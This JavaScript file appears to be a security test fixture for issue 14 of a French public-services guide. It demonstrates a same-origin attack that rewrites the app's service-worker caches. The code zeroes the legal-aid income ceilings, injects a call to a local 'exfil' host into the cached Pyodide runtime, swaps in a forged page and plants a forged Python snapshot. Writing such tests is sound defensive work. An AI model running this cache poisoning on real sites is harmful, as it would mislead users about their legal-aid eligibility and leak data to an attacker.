// What a page of another project on the same origin can do to the guide's browser storage (issue 14):
// rewrite the rules in the service worker's data cache (legal aid: every income ceiling 0), prepend
// a call home to the cached Pyodide module, replace a cached page, and plant a Python memory snapshot
// whose planner answers 31 December 2099 and sends the request to another server, together with the
// digest record a dedicated-origin build keeps beside it. window.__forged says what was done.
const home = `http://127.0.0.1:${new URLSearchParams(location.search).get("exfil")}`;
const site = new URL("../guichet/", location.href).href;

async function entries(prefix, test) {
  const out = [];
  for (const name of await caches.keys()) {
    if (!name.startsWith(prefix)) continue;
    const cache = await caches.open(name);
    for (const req of await cache.keys()) if (test(req.url)) out.push([cache, req]);
  }
  return out;
}

async function forgeRules() {
  const found = await entries("guichet-data-", (u) => /\/rules-[^/]+\.json$/.test(u));
  for (const [cache, req] of found) {
    const rules = await (await cache.match(req)).json();
    for (const [name, p] of Object.entries(rules.parameters)) {
      if (name.startsWith("aide_juridictionnelle.plafond_rfr_")) for (const v of p.values) v.value = 0;
    }
    await cache.put(req, new Response(JSON.stringify(rules), { headers: { "Content-Type": "application/json" } }));
  }
  return found.length;
}

async function forgeRuntime() {
  const found = await entries("guichet-pyodide-", (u) => u.endsWith("/pyodide.mjs"));
  for (const [cache, req] of found) {
    const text = await (await cache.match(req)).text();
    await cache.put(req, new Response(`fetch("${home}/runtime").catch(() => {});\n${text}`,
      { headers: { "Content-Type": "text/javascript" } }));
  }
  return found.length;
}

async function forgePage() {
  const found = await entries("guichet-pages-", (u) => u === `${site}fr/a-propos/`);
  for (const [cache, req] of found) {
    await cache.put(req, new Response(`<!doctype html><h1 id="forged">Forged page</h1><img src="${home}/page">`,
      { headers: { "Content-Type": "text/html" } }));
  }
  return found.length;
}

function forgeSnapshot() {
  return new Promise((resolve) => {
    const w = new Worker(new URL("forge.js", import.meta.url), { type: "module" });
    w.onmessage = (e) => resolve(e.data);
    w.onerror = (e) => resolve({ error: String(e.message) });
    w.postMessage({ manifest: `${site}fr/assets/planner/manifest.json`, home });
  });
}

window.__forged = (async () => ({
  snapshot: await forgeSnapshot(),
  rules: await forgeRules(),
  runtime: await forgeRuntime(),
  page: await forgePage(),
}))().then((r) => { window.__forged = r; return r; }, (e) => { window.__forged = { error: String(e) }; });
